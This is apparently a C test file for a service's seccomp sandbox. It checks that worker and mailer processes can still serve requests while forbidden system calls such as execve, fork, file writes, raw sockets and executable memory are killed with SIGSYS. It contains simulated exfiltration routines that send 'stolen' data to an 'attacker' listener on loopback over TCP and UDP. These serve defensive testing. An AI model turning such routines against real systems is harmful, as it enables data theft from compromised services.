/*
 * test_sandbox.c: the worker's seccomp filter, installed for real in child
 * processes: what serving needs still works, and a forbidden system call
 * kills the process with SIGSYS.
 */
#include "ac-config.h"

#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/wait.h>

#include <netinet/in.h>
#include <arpa/inet.h>

#include <fcntl.h>
#include <pthread.h>
#include <time.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <openssl/rand.h>

#include "../tap.h"
#include "base/sandbox.h"

/* Runs fn in a child behind the filter; returns its wait status. */
static int
in_sandbox(int (*fn)(void))
{
	pid_t	pid;
	int	status;

	if ((pid = fork()) == -1)
		return -1;
	if (pid == 0) {
		if (sandbox_enter() != SANDBOX_ON)
			_exit(100);
		_exit(fn());
	}
	waitpid(pid, &status, 0);
	return status;
}

/* The same behind the filter for a database on a Unix socket. */
static int
in_unix_only_sandbox(int (*fn)(void))
{
	pid_t	pid;
	int	status;

	if ((pid = fork()) == -1)
		return -1;
	if (pid == 0) {
		sandbox_unix_only(1);
		if (sandbox_enter() != SANDBOX_ON)
			_exit(100);
		_exit(fn());
	}
	waitpid(pid, &status, 0);
	return status;
}

/* The same behind the mailer's filter. */
static int
in_mailer_sandbox(int (*fn)(void))
{
	pid_t	pid;
	int	status;

	if ((pid = fork()) == -1)
		return -1;
	if (pid == 0) {
		if (sandbox_enter_mailer() != SANDBOX_ON)
			_exit(100);
		_exit(fn());
	}
	waitpid(pid, &status, 0);
	return status;
}

static void *
thread_body(void *arg)
{
	return arg;
}

/* What libcurl's threaded resolver and the mailer's loop do. */
static int
mailer_calls(void)
{
	static int	 token;
	pthread_t	 th;
	void		*back = NULL;
	int		 sv[2];
	sigset_t	 set;
	struct timespec	 zero = { 0, 0 };

	if (pthread_create(&th, NULL, thread_body, &token) != 0)
		return 1;
	if (pthread_join(th, &back) != 0 || back != &token)
		return 2;
	if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) == -1)
		return 3;
	close(sv[0]);
	close(sv[1]);
	sigemptyset(&set);
	sigaddset(&set, SIGHUP);
	sigprocmask(SIG_BLOCK, &set, NULL);
	if (sigtimedwait(&set, NULL, &zero) != -1)
		return 4;
	return 0;
}

static int
killed_by_sigsys(int status)
{
	return WIFSIGNALED(status) && WTERMSIG(status) == SIGSYS;
}

static int
serving_calls(void)
{
	unsigned char	buf[32];
	int		fd, s;
	void		*m;

	/* What a request uses: sockets, reading files, memory, randomness. */
	if ((s = socket(AF_UNIX, SOCK_STREAM, 0)) == -1)
		return 1;
	close(s);
	if ((fd = open("/etc/hostname", O_RDONLY)) == -1 &&
	    (fd = open("/dev/null", O_RDONLY)) == -1)
		return 2;
	close(fd);
	if ((m = malloc(1 << 20)) == NULL)
		return 3;
	memset(m, 1, 1 << 20);
	free(m);
	if (RAND_bytes(buf, sizeof(buf)) != 1)
		return 4;
	if (write(STDOUT_FILENO, "", 0) == -1)
		return 5;
	return 0;
}

static int
try_exec(void)
{
	static char	 prog[] = "/bin/true";
	char		*argv[] = { prog, NULL };

	execv(prog, argv);
	return 0;
}

static int
try_fork(void)
{
	pid_t	pid = fork();

	if (pid == 0)
		_exit(0);
	return 0;
}

static int
try_write_file(void)
{
	open("/tmp/account-reset-sandbox-test", O_WRONLY | O_CREAT, 0600);
	return 0;
}

/* What the mailer does on SIGHUP with mailer_log_file (log.c). */
#define SANDBOX_LOG	"/tmp/account-reset-sandbox-log"
static int
reopen_log(void)
{
	int	fd;

	fd = open(SANDBOX_LOG, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC |
	    O_NOCTTY | O_NOFOLLOW, 0640);
	if (fd == -1)
		return 1;
	return dup2(fd, 100) == 100 ? 0 : 2;
}

static int
try_truncate_log(void)
{
	open("/tmp/account-reset-sandbox-test", O_WRONLY | O_APPEND | O_CREAT |
	    O_TRUNC, 0600);
	return 0;
}

static int
try_exec_memory(void)
{
	mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS,
	    -1, 0);
	return 0;
}

static int
try_raw_socket(void)
{
	socket(AF_PACKET, SOCK_RAW, 0);
	return 0;
}

static int
try_raw_inet_socket(void)
{
	socket(AF_INET, SOCK_RAW, 1);
	return 0;
}

/* The attacker's listener on loopback (TCP and UDP on one port). */
static struct sockaddr_in	sink;

/* A subverted worker sends what it read to the attacker over TCP. */
static int
exfiltrate_tcp(void)
{
	int	s;

	if ((s = socket(AF_INET, SOCK_STREAM, 0)) == -1)
		return 1;
	if (connect(s, (struct sockaddr *)&sink, sizeof(sink)) == -1)
		return 2;
	if (write(s, "stolen", 6) != 6)
		return 3;
	close(s);
	return 0;
}

/* ...or in a datagram. */
static int
exfiltrate_udp(void)
{
	int	s;

	if ((s = socket(AF_INET, SOCK_DGRAM, 0)) == -1)
		return 1;
	if (sendto(s, "stolen", 6, 0, (struct sockaddr *)&sink,
	    sizeof(sink)) != 6)
		return 2;
	close(s);
	return 0;
}

static int
try_kill_other(void)
{
	kill(1, 0);
	return 0;
}

static int
resolver_calls(void)
{
	int	s, n = 0;

	/* What glibc's resolver does for a database named by host name. */
	if ((s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK,
	    0)) == -1)
		return 1;
	if (ioctl(s, FIONREAD, &n) == -1)
		return 2;
	close(s);
	return 0;
}

/*
 * Issue 19, point 5: what a subverted worker can do on the network.  With
 * a database reached over TCP the filter must allow IPv4 and IPv6
 * sockets, so it can connect anywhere and send (the residual that
 * docs/SECURITY.md states; systemd's IPAddressDeny= is the fence then).
 * With a database on a Unix socket (sandbox_unix_only) it cannot.
 */
static void
test_network_attacks(void)
{
	socklen_t	len = sizeof(sink);
	char		buf[16];
	int		l, u, c, status;
	ssize_t		n;

	memset(&sink, 0, sizeof(sink));
	sink.sin_family = AF_INET;
	sink.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if ((l = socket(AF_INET, SOCK_STREAM, 0)) == -1 ||
	    bind(l, (struct sockaddr *)&sink, sizeof(sink)) == -1 ||
	    getsockname(l, (struct sockaddr *)&sink, &len) == -1 ||
	    listen(l, 4) == -1 ||
	    (u = socket(AF_INET, SOCK_DGRAM, 0)) == -1 ||
	    bind(u, (struct sockaddr *)&sink, sizeof(sink)) == -1) {
		ok(0, "the attacker's listener on loopback");
		return;
	}
	status = in_sandbox(exfiltrate_tcp);
	c = accept(l, NULL, NULL);
	n = c == -1 ? -1 : read(c, buf, sizeof(buf));
	ok(WIFEXITED(status) && WEXITSTATUS(status) == 0 && n == 6,
	    "with a database over TCP, a worker can still connect out and "
	    "send (the documented residual; status %d)", status);
	if (c != -1)
		close(c);
	ok(killed_by_sigsys(in_unix_only_sandbox(exfiltrate_tcp)),
	    "with the database on a Unix socket, a TCP connection out is "
	    "killed (SIGSYS)");
	ok(killed_by_sigsys(in_unix_only_sandbox(exfiltrate_udp)),
	    "...and so is a UDP datagram out");
	status = in_unix_only_sandbox(serving_calls);
	ok(WIFEXITED(status) && WEXITSTATUS(status) == 0,
	    "while what serving needs (a Unix socket, files, memory) still "
	    "works (status %d)", status);
	close(l);
	close(u);
}

int
main(void)
{
	int	status;

	if (strcmp(sandbox_unavailable_reason(),
	    "available") != 0) {
		printf("1..0 # SKIP %s\n", sandbox_unavailable_reason());
		return 0;
	}
	status = in_sandbox(serving_calls);
	ok(WIFEXITED(status) && WEXITSTATUS(status) == 0,
	    "behind the filter, sockets, read-only files, memory and "
	    "randomness still work (status %d)", status);
	ok(killed_by_sigsys(in_sandbox(try_exec)), "execve is killed (SIGSYS)");
	ok(killed_by_sigsys(in_sandbox(try_fork)), "fork is killed (SIGSYS)");
	ok(killed_by_sigsys(in_sandbox(try_write_file)),
	    "opening a file for writing is killed (SIGSYS)");
	ok(killed_by_sigsys(in_sandbox(try_exec_memory)),
	    "mapping executable memory is killed (SIGSYS)");
	ok(killed_by_sigsys(in_sandbox(try_raw_socket)),
	    "a packet socket is killed (SIGSYS)");
	ok(killed_by_sigsys(in_sandbox(try_raw_inet_socket)),
	    "a raw IP socket is killed (SIGSYS)");
	ok(killed_by_sigsys(in_sandbox(try_kill_other)),
	    "a signal to another process is killed (SIGSYS)");
	status = in_sandbox(resolver_calls);
	ok(WIFEXITED(status) && WEXITSTATUS(status) == 0,
	    "the resolver's datagram socket and FIONREAD are allowed "
	    "(status %d)", status);
	status = in_mailer_sandbox(mailer_calls);
	ok(WIFEXITED(status) && WEXITSTATUS(status) == 0,
	    "behind the mailer's filter, threads, a socket pair and "
	    "sigtimedwait work (status %d)", status);
	status = in_mailer_sandbox(serving_calls);
	ok(WIFEXITED(status) && WEXITSTATUS(status) == 0,
	    "and so does what the workers may do (status %d)", status);
	ok(killed_by_sigsys(in_mailer_sandbox(try_fork)),
	    "behind the mailer's filter, fork is killed (SIGSYS)");
	ok(killed_by_sigsys(in_mailer_sandbox(try_exec)),
	    "behind the mailer's filter, execve is killed (SIGSYS)");
	ok(killed_by_sigsys(in_mailer_sandbox(try_write_file)),
	    "behind the mailer's filter, opening a file for writing is killed");
	status = in_mailer_sandbox(reopen_log);
	ok(WIFEXITED(status) && WEXITSTATUS(status) == 0,
	    "behind the mailer's filter, its log opens again for appending "
	    "and is dup2()ed, as on SIGHUP after logrotate (status %d)", status);
	unlink(SANDBOX_LOG);
	ok(killed_by_sigsys(in_mailer_sandbox(try_truncate_log)),
	    "behind the mailer's filter, a truncating open is killed");
	test_network_attacks();
	return done_testing();
}
